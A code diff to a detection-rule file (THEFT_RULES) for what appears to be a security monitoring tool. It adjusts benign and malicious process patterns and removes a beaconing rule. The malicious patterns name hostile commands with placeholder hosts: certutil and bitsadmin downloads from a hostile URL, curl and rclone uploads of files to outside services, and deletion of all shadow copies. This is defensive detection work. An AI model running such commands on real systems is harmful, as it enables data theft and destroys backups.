@@ -10,7 +10,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     severities: [3, 5, 2, 0],
     benign: [
       {
-        parents: "explorer.exe cmd.exe outlook.exe",
+        parents: "explorer.exe cmd.exe outlook.exe ccmexec.exe",
         commands: [
           "7z.exe a slides.zip {ownFile}",
           "7z.exe x setup.zip",
@@ -20,9 +20,9 @@ export const THEFT_RULES: readonly DetectionRule[] = [
         ],
       },
       {
-        parents: "cmd.exe powershell.exe",
-        commands: ["robocopy.exe {papers} {target} /mir", "rar.exe a -hp backup.rar {papers}"],
-        on: ["management"],
+        parents: "mmc.exe rsat.exe",
+        commands: ["robocopy.exe {papers} {target} /mir"],
+        on: ["management", "server"],
       },
     ],
     malicious: [
@@ -38,7 +38,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
       },
       {
         parents: "cmd.exe powershell.exe",
-        commands: ["robocopy.exe {papers} {target} /mir", "rar.exe a -hp backup.rar {papers}"],
+        commands: ["robocopy.exe {papers} {target} /mir"],
         on: ["workstation"],
       },
     ],
@@ -62,7 +62,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     severities: [2, 5, 3, 0],
     benign: [
       {
-        parents: "explorer.exe cmd.exe ccmexec.exe",
+        parents: "explorer.exe cmd.exe ccmexec.exe msiexec.exe",
         commands: [
           "certutil.exe -urlcache -f {ownUrl}",
           "bitsadmin.exe /transfer job {ownUrl}",
@@ -75,7 +75,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     ],
     malicious: [
       {
-        parents: "explorer.exe cmd.exe wscript.exe",
+        parents: "explorer.exe cmd.exe wscript.exe rundll32.exe",
         commands: [
           "certutil.exe -urlcache -f {hostileUrl}",
           "bitsadmin.exe /transfer job {hostileUrl}",
@@ -99,50 +99,6 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     ],
   },
   {
-    id: "R603",
-    name: "beaconing",
-    tactic: "command-and-control",
-    technique: "T1071.001",
-    severities: [2, 4, 3, 1],
-    benign: [
-      {
-        parents: "explorer.exe services.exe svchost.exe",
-        commands: [
-          "teams.exe poll {ownSite} every 60s",
-          "onedrive.exe sync {ownSite} every 300s",
-          "msedge.exe poll {ownSite} every 60s",
-          "agent.exe report {ownSite} every 300s",
-          "updater.exe check {ownSite} daily",
-          "msedge.exe open {ownSite} once",
-        ],
-      },
-    ],
-    malicious: [
-      {
-        parents: "explorer.exe services.exe svchost.exe",
-        commands: [
-          "teams.exe poll {hostileSite} every 60s",
-          "rundll32.exe poll {hostileSite} every 60s",
-          "rundll32.exe poll {ownSite} every 300s",
-          "powershell.exe poll {hostileSite} every 300s",
-          "updater.exe check {hostileSite} daily",
-          "nslookup.exe txt {hostileSite} every 60s",
-        ],
-      },
-    ],
-    service: [
-      {
-        account: "svc_monitor",
-        parents: "monitoragent.exe",
-        commands: [
-          "powershell.exe poll {ownSite} every 60s /collector siem",
-          "nslookup.exe txt {ownSite} every 60s /collector siem",
-        ],
-        on: ["server"],
-      },
-    ],
-  },
-  {
     id: "R604",
     name: "cloud-upload",
     tactic: "exfiltration",
@@ -150,7 +106,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     severities: [1, 4, 4, 1],
     benign: [
       {
-        parents: "explorer.exe cmd.exe outlook.exe",
+        parents: "explorer.exe cmd.exe outlook.exe ccmexec.exe",
         commands: [
           "onedrive.exe upload {ownFile}",
           "curl.exe -T {ownFile} {ownUrl}",
@@ -161,14 +117,14 @@ export const THEFT_RULES: readonly DetectionRule[] = [
         ],
       },
       {
-        parents: "cmd.exe powershell.exe",
-        commands: ["rclone.exe copy {papers} onedrive", "winscp.exe put {papers} {ownSite}"],
-        on: ["management"],
+        parents: "mmc.exe rsat.exe",
+        commands: ["rclone.exe copy {papers} onedrive"],
+        on: ["management", "server"],
       },
     ],
     malicious: [
       {
-        parents: "explorer.exe cmd.exe rundll32.exe",
+        parents: "explorer.exe cmd.exe rundll32.exe wscript.exe",
         commands: [
           "rclone.exe copy {papers} mega",
           "curl.exe -T {papers} {hostileUrl}",
@@ -180,7 +136,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
       },
       {
         parents: "cmd.exe powershell.exe",
-        commands: ["rclone.exe copy {papers} onedrive", "winscp.exe put {papers} {ownSite}"],
+        commands: ["rclone.exe copy {papers} onedrive"],
         on: ["workstation"],
       },
     ],
@@ -201,7 +157,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
     severities: [0, 2, 4, 4],
     benign: [
       {
-        parents: "mmc.exe cmd.exe powershell.exe",
+        parents: "mmc.exe cmd.exe powershell.exe ccmexec.exe",
         commands: [
           "vssadmin.exe list shadows",
           "vssadmin.exe create shadow",
@@ -211,14 +167,14 @@ export const THEFT_RULES: readonly DetectionRule[] = [
         ],
       },
       {
-        parents: "mmc.exe powershell.exe",
-        commands: ["vssadmin.exe delete shadows /oldest", "wbadmin.exe delete backup /keep"],
-        on: ["management"],
+        parents: "mmc.exe rsat.exe",
+        commands: ["vssadmin.exe delete shadows /oldest"],
+        on: ["management", "server"],
       },
     ],
     malicious: [
       {
-        parents: "wscript.exe cmd.exe powershell.exe",
+        parents: "wscript.exe cmd.exe powershell.exe rundll32.exe",
         commands: [
           "vssadmin.exe delete shadows /all",
           "vssadmin.exe resize shadowstorage 401mb",
@@ -230,7 +186,7 @@ export const THEFT_RULES: readonly DetectionRule[] = [
       },
       {
         parents: "cmd.exe powershell.exe",
-        commands: ["vssadmin.exe delete shadows /oldest", "wbadmin.exe delete backup /keep"],
+        commands: ["vssadmin.exe delete shadows /oldest"],
         on: ["workstation"],
       },
     ],
